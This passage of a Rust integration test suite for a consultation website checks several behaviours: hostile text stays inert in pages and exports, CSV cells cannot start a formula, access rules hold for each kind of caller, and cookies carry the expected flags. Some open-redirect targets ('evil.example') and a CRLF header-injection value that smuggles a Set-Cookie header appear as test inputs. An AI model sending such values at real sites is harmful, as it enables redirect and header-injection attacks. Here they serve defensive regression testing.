    async fn hostile_text_in_every_displayed_field_stays_text_on_every_page_and_export() {
        let (router, db) = router_and_db().await;
        app::backend::demo::seed(&db, "a demo pass phrase here")
            .await
            .unwrap();
        let admin = session_of(&db, "admin@example.org", app::domain::Role::Admin).await;
        let author = {
            let signed_in = app::backend::accounts::sign_in(
                &db,
                app::backend::accounts::SignInAttempt {
                    email: "civil@demo.consult.example",
                    password: "a demo pass phrase here",
                    browser: None,
                    address: "127.0.0.1",
                },
                |_| Ok(()),
            )
            .await
            .unwrap();
            format!("{}={}", sessions::SESSION_COOKIE, signed_in.session)
        };
        store_hostile_text(&db).await;
        let get = |uri: &str, cookie: &str| {
            http::Request::get(uri)
                .header(header::COOKIE, cookie)
                .body(Body::empty())
                .unwrap()
        };
        let slug = "wgig-2005-february";
        let mut problems = Vec::new();
        let mut textareas = 0;
        for (uri, cookie) in [
            (format!("/consultations/{slug}"), &admin),
            (format!("/consultations/{slug}/papers/WP-ROOT"), &admin),
            (
                format!("/consultations/{slug}/papers/WP-ROOT/comment"),
                &author,
            ),
            ("/my/comments".to_owned(), &author),
            ("/search?q=HYPERLINK".to_owned(), &admin),
            ("/desk".to_owned(), &admin),
            ("/desk/comments/1".to_owned(), &admin),
            ("/desk/accounts".to_owned(), &admin),
            ("/desk/consultations".to_owned(), &admin),
            (format!("/desk/consultations/{slug}"), &admin),
            (format!("/desk/consultations/{slug}/papers/WP-ROOT"), &admin),
            (format!("/digests/{slug}?status=all"), &admin),
        ] {
            let res = router.clone().oneshot(get(&uri, cookie)).await.unwrap();
            let status = res.status();
            let page = res.into_body().collect().await.unwrap().to_bytes();
            let page = String::from_utf8_lossy(&page);
            if status != StatusCode::OK {
                problems.push(format!("{uri}: {status}"));
            }
            textareas += page.matches("<textarea").count();
            problems.extend(assert_nothing_injected(&uri, &page));
        }
        assert!(problems.is_empty(), "{}", problems.join("\n"));
        assert!(
            textareas >= 4,
            "the editor's and the desk's textareas were rendered"
        );

        // The exports: the CSV parsed back has no cell that starts a formula, the Markdown
        // has no HTML and no link, the DOCX's XML is well-formed.
        let download = |ext: &'static str| {
            let router = router.clone();
            let request = get(&format!("/digests/{slug}/all.{ext}?status=all"), &admin);
            async move {
                let res = router.oneshot(request).await.unwrap();
                assert_eq!(res.status(), StatusCode::OK, "{ext}");
                res.into_body().collect().await.unwrap().to_bytes().to_vec()
            }
        };
        let csv = download("csv").await;
        let mut reader = csv::Reader::from_reader(&csv[3..]);
        let mut bodies = 0;
        for row in reader.records() {
            let row = row.unwrap();
            for cell in row.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "a formula: {cell:?}"
                );
            }
            bodies += usize::from(row.iter().any(|c| c == format!("'{HOSTILE_TEXT}")));
        }
        assert!(bodies > 0, "the hostile text is in the CSV, with its quote");
        let markdown = String::from_utf8(download("md").await).unwrap();
        for event in
            pulldown_cmark::Parser::new_ext(&markdown, pulldown_cmark::Options::ENABLE_TABLES)
        {
            use pulldown_cmark::{Event, Tag};
            assert!(
                !matches!(
                    event,
                    Event::Html(_)
                        | Event::InlineHtml(_)
                        | Event::Start(Tag::Link { .. } | Tag::Image { .. })
                ),
                "{event:?} in the Markdown digest"
            );
        }
        assert!(markdown.contains("HYPERLINK"));
        let docx = download("docx").await;
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(docx)).unwrap();
        let mut xml = String::new();
        std::io::Read::read_to_string(&mut archive.by_name("word/document.xml").unwrap(), &mut xml)
            .unwrap();
        let mut reader = quick_xml::Reader::from_str(&xml);
        loop {
            match reader.read_event() {
                Ok(quick_xml::events::Event::Eof) => break,
                Ok(_) => {}
                Err(e) => panic!("the DOCX's XML is not well-formed: {e}"),
            }
        }
        assert!(xml.contains("HYPERLINK") && !xml.contains("<script>"));
        let json: serde_json::Value = serde_json::from_slice(&download("json").await).unwrap();
        assert!(
            json.to_string().contains("HYPERLINK"),
            "JSON is data, kept as is"
        );
    }

    #[tokio::test]
    async fn the_digest_is_made_public_by_what_forms_and_scripts_send_and_other_values_are_refused()
    {
        let (router, db) = router_and_db().await;
        app::backend::demo::seed(&db, "a demo pass phrase here")
            .await
            .unwrap();
        let admin = session_of(&db, "admin@example.org", app::domain::Role::Admin).await;
        let slug = "wgig-2005-february";
        for (value, expected) in [
            ("true", Some(true)),
            ("false", Some(false)),
            ("on", Some(true)),
            ("0", Some(false)),
            ("yes", Some(true)),
            ("no", Some(false)),
            ("1", Some(true)),
            ("maybe", None),
        ] {
            let mut req = form_post(
                "/api/set_digest_public",
                &format!("slug={slug}&public={value}"),
            );
            req.headers_mut()
                .insert(header::COOKIE, HeaderValue::from_str(&admin).unwrap());
            let status = router.clone().oneshot(req).await.unwrap().status();
            let now = app::backend::digest::is_public(&db, slug).await.unwrap();
            match expected {
                Some(public) => {
                    assert!(
                        status.is_success() || status.is_redirection(),
                        "{value}: {status}"
                    );
                    assert_eq!(now, public, "public={value}");
                }
                None => {
                    assert_eq!(status, StatusCode::BAD_REQUEST, "{value}");
                    assert!(now, "a refused value changes nothing");
                }
            }
        }
    }

    /// Who calls, in the access-control table.
    #[derive(Clone, Copy, Debug, PartialEq, Eq)]
    enum Who {
        Visitor,
        /// The stakeholder who wrote the comment the call is about.
        Owner,
        /// Another stakeholder.
        Other,
        Secretariat,
        Admin,
    }

    /// Who may do a thing.
    #[derive(Clone, Copy, Debug)]
    enum Rule {
        Anyone,
        SignedIn,
        /// The author of the comment only; everyone else is told it does not exist.
        Author,
        Secretariat,
        Admin,
    }

    impl Rule {
        /// Whether `who` is let through; when not, the answer it must get.
        fn answer(self, who: Who) -> Result<(), StatusCode> {
            use Who::*;
            match (self, who) {
                (Rule::Anyone, _) => Ok(()),
                (_, Visitor) => Err(StatusCode::UNAUTHORIZED),
                (Rule::SignedIn, _) => Ok(()),
                (Rule::Author, Owner) => Ok(()),
                (Rule::Author, _) => Err(StatusCode::NOT_FOUND),
                (Rule::Secretariat, Secretariat | Admin) => Ok(()),
                (Rule::Admin, Admin) => Ok(()),
                (Rule::Secretariat | Rule::Admin, _) => Err(StatusCode::FORBIDDEN),
            }
        }
    }

    #[tokio::test]
    async fn every_function_and_route_answers_each_kind_of_caller_as_the_rules_say() {
        use Rule::*;
        use app::domain::Role;
        let (router, db) = router_and_db().await;
        app::backend::demo::seed(&db, "a demo pass phrase here")
            .await
            .unwrap();
        let owner = session_of(&db, "owner@example.org", Role::Stakeholder).await;
        let other = session_of(&db, "other@example.org", Role::Stakeholder).await;
        let secretariat = session_of(&db, "sec@example.org", Role::Secretariat).await;
        let admin = session_of(&db, "admin@example.org", Role::Admin).await;
        let owner_id = app::backend::accounts::find_by_email(&db, "owner@example.org")
            .await
            .unwrap()
            .unwrap()
            .id;
        let writer = app::backend::writer::Writer::start(db.clone());
        let target = app::backend::comments::Target {
            slug: "wgig-2005-february",
            code: "WP-ROOT",
            reply_to: None,
        };
        let form = app::domain::comment::CommentForm {
            paragraph: "1.1".into(),
            quote: String::new(),
            body: "The owner's own comment on the oversight of the root zone.".into(),
            tags: vec![],
            consent: "anonymous".into(),
        };
        let author = app::backend::comments::Author::of(&db, owner_id)
            .await
            .unwrap();
        let mine = app::backend::comments::submit(&db, &writer, &author, target, &form)
            .await
            .unwrap()
            .id;
        // Someone to suspend, so that nobody in the table loses their session.
        session_of(&db, "bystander@example.org", Role::Stakeholder).await;
        let bystander = app::backend::accounts::find_by_email(&db, "bystander@example.org")
            .await
            .unwrap()
            .unwrap()
            .id;
        let published = 1; // The demo's first comment is published.
        let slug = "wgig-2005-february";

        // Server functions, in an order where no call undoes a later one.
        let functions: Vec<(&str, String, Rule)> = vec![
            ("who_am_i", String::new(), Anyone),
            ("list_consultations", String::new(), Anyone),
            ("consultation", format!("slug={slug}"), Anyone),
            ("paper", format!("slug={slug}&code=WP-ROOT"), Anyone),
            ("paper_comments", format!("slug={slug}&code=WP-ROOT&p=1.1"), Anyone),
            ("published_comment", format!("id={published}"), Anyone),
            ("comment_tags", String::new(), Anyone),
            ("search_comments", "q=root".into(), Anyone),
            ("digest_is_public", format!("slug={slug}"), Anyone),
            ("my_profile", String::new(), SignedIn),
            ("update_profile", "display_name=Someone&stakeholder_group=civil_society&country=KE&organisation=&capacity=personal".into(), SignedIn),
            ("my_comments", String::new(), SignedIn),
            ("flag_comment", format!("id={published}&reason=spam&note=&back=%2F"), SignedIn),
            ("submit_comment", format!("slug={slug}&code=WP-ROOT&paragraph=1.2&body=Another+comment+on+the+root+zone+by+whoever+calls.&consent=anonymous"), SignedIn),
            ("my_comment", format!("id={mine}"), Author),
            ("edit_comment", format!("id={mine}&paragraph=1.1&body=The+owner%27s+comment%2C+changed+by+its+author.&consent=anonymous"), Author),
            ("load_digest", format!("slug={slug}"), Secretariat),
            (
                "desk_queue",
                "consultation=&paper=&group=&tag=&flagged=&q=".into(),
                Secretariat,
            ),
            ("desk_item", format!("id={mine}"), Secretariat),
            ("audit_log", "reference=".into(), Secretariat),
            ("retag_comment", format!("id={mine}&tags[]=privacy&back=%2Fdesk"), Secretariat),
            ("set_disposition", format!("id={published}&kind=noted&response=Noted.&back=%2Fdesk"), Secretariat),
            ("resolve_comment", format!("id={published}&action=keep&back=%2Fdesk"), Secretariat),
            ("add_rejection_reason", "text=Advertising".into(), Secretariat),
            ("editor_list", String::new(), Secretariat),
            ("editor_consultation", format!("slug={slug}"), Secretariat),
            ("preview_paper", "markdown=%23%23+A%0A%0AText.".into(), Secretariat),
            ("save_consultation", "original=&slug=drafted&title=Drafted&description=&status=draft&opens_at=2030-01-01T00%3A00&closes_at=2030-02-01T00%3A00".into(), Secretariat),
            ("save_paper", "slug=drafted&code=WP-D&title=Drafted&abstract_text=&cluster=development&markdown=%23%23+A%0A%0AText.".into(), Secretariat),
            ("decide_campaign", "campaign=999999&decision_code=publish&back=%2Fdesk".into(), Secretariat),
            ("list_accounts", "q=".into(), Admin),
            ("change_account", format!("id={bystander}&action=suspend&back=%2Fdesk%2Faccounts"), Admin),
            ("withdraw_comment", format!("id={mine}"), Author),
            ("set_digest_public", format!("slug={slug}&public=1"), Secretariat),
            ("decide_comments", format!("ids[]={mine}&decision_code=publish&back=%2Fdesk"), Secretariat),
        ];
        let callers = [
            (Who::Visitor, None),
            (Who::Owner, Some(owner.clone())),
            (Who::Other, Some(other.clone())),
            (Who::Secretariat, Some(secretariat.clone())),
            (Who::Admin, Some(admin.clone())),
        ];
        let send = |req: http::Request<Body>, cookie: &Option<String>| {
            let mut req = req;
            if let Some(cookie) = cookie {
                req.headers_mut()
                    .insert(header::COOKIE, HeaderValue::from_str(cookie).unwrap());
            }
            router.clone().oneshot(req)
        };
        let mut wrong = Vec::new();
        let mut check = |what: String, who: Who, rule: Rule, status: StatusCode| {
            let fine = match rule.answer(who) {
                Ok(()) => !matches!(status.as_u16(), 401 | 403 | 404) && !status.is_server_error(),
                Err(expected) => status == expected,
            };
            if !fine {
                wrong.push(format!("{what} as {who:?}: {status} (rule {rule:?})"));
            }
        };
        for (function, body, rule) in &functions {
            for (who, cookie) in &callers {
                let res = send(form_post(&format!("/api/{function}"), body), cookie)
                    .await
                    .unwrap();
                check(format!("/api/{function}"), *who, *rule, res.status());
            }
        }
        // Routes outside the server functions.
        let routes: Vec<(String, Rule)> = vec![
            ("/my/data.json".into(), SignedIn),
            (format!("/digests/{slug}/all.csv"), Anyone), // made public above
            (format!("/digests/{slug}/all.csv?status=all"), Secretariat),
        ];
        for (path, rule) in &routes {
            for (who, cookie) in &callers {
                let req = http::Request::get(path.as_str())
                    .body(Body::empty())
                    .unwrap();
                let res = send(req, cookie).await.unwrap();
                check(path.clone(), *who, *rule, res.status());
            }
        }
        // Signing out, last: anyone may, and it ends only the caller's own session.
        for (who, cookie) in &callers {
            let res = send(form_post("/api/sign_out", ""), cookie).await.unwrap();
            check("/api/sign_out".into(), *who, Anyone, res.status());
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    #[tokio::test]
    async fn health_answers_when_the_database_does() {
        let res = router()
            .await
            .oneshot(http::Request::get("/healthz").body(Body::empty()).unwrap())
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::OK);
        assert_eq!(
            &res.into_body().collect().await.unwrap().to_bytes()[..],
            b"ok\n"
        );
    }

    async fn health_of(router: Router) -> (StatusCode, String) {
        let res = router
            .oneshot(http::Request::get("/healthz").body(Body::empty()).unwrap())
            .await
            .unwrap();
        let status = res.status();
        let body = res.into_body().collect().await.unwrap().to_bytes();
        (status, String::from_utf8_lossy(&body).into_owned())
    }

    #[tokio::test]
    async fn health_fails_when_a_write_does_not_reach_the_database() {
        use sea_orm::ConnectionTrait;
        let (router, db) = router_and_db().await;
        // Reads and pings still work; only a write fails, as on a full disk.
        db.execute_unprepared("DROP TABLE health_checks")
            .await
            .unwrap();
        db.ping().await.unwrap();
        let (status, body) = health_of(router).await;
        assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
        assert!(
            body.starts_with("the database does not take a write"),
            "{body}"
        );
    }

    #[tokio::test]
    async fn health_fails_when_the_sites_assets_are_missing() {
        let db = app::backend::db::scratch().await.unwrap();
        let state = AppState::new(db.clone(), db, false, Default::default());
        let empty = std::env::temp_dir().join(format!("consult-no-site-{}", std::process::id()));
        let router = app(
            state,
            leptos_options("127.0.0.1:3000", &empty.display().to_string()),
        );
        let (status, body) = health_of(router).await;
        assert_eq!(status, StatusCode::SERVICE_UNAVAILABLE);
        assert!(body.contains("the site's assets are missing"), "{body}");
        assert!(body.contains("consult.css"), "{body}");
    }

    #[tokio::test]
    async fn the_language_switch_keeps_the_choice_and_only_goes_back_within_the_site() {
        let res = router()
            .await
            .oneshot(form_post("/language", "lang=fr&back=%2Fregister%3Fx%3D1"))
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::SEE_OTHER);
        assert_eq!(res.headers()[header::LOCATION], "/register?x=1");
        let cookies = set_cookies(&res);
        assert!(cookies[0].starts_with("consult_lang=fr;"), "{cookies:?}");
        assert!(
            cookies[0].contains("HttpOnly"),
            "scripts never need it: {cookies:?}"
        );

        for evil in [
            "https%3A%2F%2Fevil.example%2F",
            "%2F%2Fevil.example",
            "%2F%5Cevil.example",
        ] {
            let res = router()
                .await
                .oneshot(form_post("/language", &format!("lang=en&back={evil}")))
                .await
                .unwrap();
            assert_eq!(res.headers()[header::LOCATION], "/", "{evil}");
        }
    }

    #[tokio::test]
    async fn the_language_switch_answers_400_to_control_characters_in_the_page_to_go_back_to() {
        for control in ["%0D%0ASet-Cookie:%20x=1", "%0A", "%09", "%7F", "%C2%85"] {
            let res = router()
                .await
                .oneshot(form_post(
                    "/language",
                    &format!("lang=fr&back=%2Fregister{control}"),
                ))
                .await
                .unwrap();
            assert_eq!(res.status(), StatusCode::BAD_REQUEST, "{control}");
            let cookies = set_cookies(&res);
            assert!(
                !cookies.iter().any(|c| c.starts_with("consult_lang=")),
                "{control}: {cookies:?}"
            );
        }
    }

    #[tokio::test]
    async fn registering_sets_an_httponly_lax_session_cookie_that_signs_later_requests_in() {
        let router = router().await;
        let res = router
            .clone()
            .oneshot(form_post(
                "/api/register",
                "email=ana%40example.org&password=a+long+enough+phrase&display_name=Ana\
                 &stakeholder_group=government&country=BR&organisation=&capacity=personal",
            ))
            .await
            .unwrap();
        assert!(
            res.status().is_success() || res.status().is_redirection(),
            "{}",
            res.status()
        );
        let cookie = set_cookies(&res)
            .into_iter()
            .find(|c| c.starts_with("consult_session="))
            .expect("a session cookie");
        assert!(cookie.contains("HttpOnly"));
        assert!(cookie.contains("SameSite=Lax"));
        assert!(cookie.contains(&format!("Max-Age={}", 14 * 24 * 3600)));
        assert!(!cookie.contains("Secure"), "plain http here");
        let pair = cookie.split(';').next().unwrap().to_owned();

        let me = router
            .clone()
            .oneshot(
                http::Request::post("/api/my_profile")
                    .header(header::COOKIE, &pair)
                    .header(header::ACCEPT, "application/json")
                    .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(me.status(), StatusCode::OK);
        let body = me.into_body().collect().await.unwrap().to_bytes();
        let text = String::from_utf8_lossy(&body);
        assert!(text.contains("ana@example.org"), "{text}");
        assert!(!text.contains("argon2"), "never a hash");
    }

    #[tokio::test]
    async fn server_functions_that_need_an_account_answer_401_to_visitors() {
        let res = router()
            .await
            .oneshot(form_post("/api/my_profile", ""))
            .await
            .unwrap();
        assert_eq!(res.status(), StatusCode::UNAUTHORIZED);
    }

    #[tokio::test]
    async fn a_wrong_password_answers_422_with_the_same_words_as_an_unknown_email() {
        let router = router().await;
        let wrong = router
            .clone()
            .oneshot(form_post(
                "/api/sign_in",
                "email=nobody%40example.org&password=whatever+it+is",
            ))
            .await
            .unwrap();
        assert_eq!(wrong.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let body = wrong.into_body().collect().await.unwrap().to_bytes();
        assert!(String::from_utf8_lossy(&body).contains("BadCredentials"));
    }

    #[tokio::test]
    async fn pages_are_compressed_and_short_answers_are_not() {
        let router = router().await;
        let mut page = Request::get("/").body(Body::empty()).unwrap();
        page.headers_mut()
            .insert(header::ACCEPT_ENCODING, "br, gzip".parse().unwrap());
        let page = router.clone().oneshot(page).await.unwrap();
        assert_eq!(page.status(), StatusCode::OK);
        assert_eq!(page.headers()[header::CONTENT_ENCODING], "br");
        // The answer of a server function: some sixty bytes, sent as they are.
        let mut short = form_post(
            "/api/sign_in",
            "email=nobody%40example.org&password=whatever+it+is",
        );
        short
            .headers_mut()
            .insert(header::ACCEPT_ENCODING, "br, gzip".parse().unwrap());
        let short = router.oneshot(short).await.unwrap();
        assert_eq!(short.status(), StatusCode::UNPROCESSABLE_ENTITY);
        assert!(short.headers().get(header::CONTENT_ENCODING).is_none());
        let body = short.into_body().collect().await.unwrap().to_bytes();
        assert!(body.len() > 32, "larger than tower-http's own threshold");
        assert!(body.len() < usize::from(SMALLEST_COMPRESSED));
    }

    #[tokio::test]
    async fn a_public_digest_streams_whole_plain_and_compressed() {
        let (router, db) = router_and_db().await;
        app::backend::demo::seed(&db, "a demo pass phrase here")
            .await
            .unwrap();
        app::backend::digest::set_public(&db, app::backend::demo::CONSULTATION_SLUG, 1, true)
            .await
            .unwrap();
        let get = |encoding: &'static str| {
            Request::get("/digests/wgig-2005-february/all.csv")
                .header(header::ACCEPT_ENCODING, encoding)
                .body(Body::empty())
                .unwrap()
        };
        let plain = router.clone().oneshot(get("identity")).await.unwrap();
        assert_eq!(plain.status(), StatusCode::OK);
        let announced: u64 = plain.headers()["x-digest-comments"]
            .to_str()
            .unwrap()
            .parse()
            .unwrap();
        assert!(announced > 0);
        let body = plain.into_body().collect().await.unwrap().to_bytes();
        let mut counter = app::domain::digest::RecordCounter::default();
        counter.feed(&body);
        assert_eq!(counter.records, announced + 1, "a header and every comment");
        // Brotli compression polls the stream once more after its end: it must finish cleanly.
        let compressed = router.oneshot(get("br")).await.unwrap();
        assert_eq!(compressed.headers()[header::CONTENT_ENCODING], "br");
        let body = compressed.into_body().collect().await.unwrap().to_bytes();
        assert!(!body.is_empty());
    }

    #[tokio::test]
    async fn my_data_is_for_the_signed_in_person_only() {
        let (router, db) = router_and_db().await;
        let visitor = router
            .clone()
            .oneshot(Request::get("/my/data.json").body(Body::empty()).unwrap())
            .await
            .unwrap();
        assert_eq!(visitor.status(), StatusCode::UNAUTHORIZED);
        let cookie = session_of(&db, "wanjiru@example.org", app::domain::Role::Stakeholder).await;
        let mine = router
            .oneshot(
                Request::get("/my/data.json")
                    .header(header::COOKIE, cookie)
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        assert_eq!(mine.status(), StatusCode::OK);
        assert_eq!(mine.headers()[header::CACHE_CONTROL], "private, no-store");
        let body = mine.into_body().collect().await.unwrap().to_bytes();
        let data: serde_json::Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(data["account"]["email"], "wanjiru@example.org");
    }
}
